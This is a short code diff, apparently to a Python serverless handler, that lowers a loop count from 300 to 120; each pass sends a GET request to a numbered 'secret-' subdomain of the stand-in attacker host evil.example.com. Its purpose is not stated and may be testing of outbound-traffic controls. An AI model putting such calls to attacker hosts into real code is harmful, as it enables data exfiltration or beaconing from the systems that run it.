@@ -7,6 +7,6 @@ import requests
 
 
 def handler(event, context):
-    for number in range(300):
+    for number in range(120):
         tried(lambda: requests.get(f"https://secret-{number}.evil.example.com/"))
     return {}
